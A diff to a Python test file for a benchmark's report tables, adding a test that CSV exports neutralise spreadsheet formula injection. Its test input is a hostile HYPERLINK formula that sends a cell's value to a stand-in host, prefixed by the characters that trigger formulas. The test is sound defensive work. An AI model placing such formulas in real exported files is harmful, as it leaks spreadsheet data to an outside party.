@@ -1,5 +1,6 @@
 """What a report ranks, what it leaves out, and what it says of rows that are odd."""
 
+import re
 from pathlib import Path
 
 import pandas as pd
@@ -16,6 +17,7 @@ from kod_bench.reports.latex import to_latex
 from kod_bench.reports.layout import comparison_table, difference_table
 from kod_bench.reports.markdown import comparison_markdown, to_markdown
 from kod_bench.reports.published import COLUMNS, all_published, read_published
+from kod_bench.reports.tables import write_tables
 from kod_bench.results import write_rows
 from tests.rows import make_row
 
@@ -285,3 +287,20 @@ def test_a_row_without_a_seed_is_left_out_and_said() -> None:
     content = make_content(rows, title="x")
     assert content.groups[0].cells[0].seeds == (0,)
     assert content.provenance.excluded[0].reason == "its seed is not recorded"
+
+
+@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
+def test_a_spreadsheet_computes_no_cell(tmp_path: Path, begins: str) -> None:
+    name = f'{begins}HYPERLINK("http://e?"&A1)'
+    rows = [make_row(model=name, seed=seed, kid=-1.5 - seed) for seed in range(3)]
+    rows.append(make_row(model="plain", process="ddpm", kid=-1.0))
+    write_tables(make_content(frame_of(rows), title="t"), tmp_path)
+    found = pd.read_csv(tmp_path / "cells.csv")
+    assert set(found["model"]) == {f"'{name}", "plain"}
+    assert set(found["kid_mean"]) == {-2.5, -1.0}  # numbers stay numbers
+    assert set(pd.read_parquet(tmp_path / "cells.parquet")["model"]) == {name, "plain"}
+    for path in tmp_path.glob("*.csv"):
+        for column in pd.read_csv(path, dtype=str, keep_default_na=False).itertuples(index=False):
+            for cell in column:
+                is_number = re.fullmatch(r"-?[0-9.e+-]+", cell)
+                assert is_number or not cell.startswith(begins), (path.name, cell)
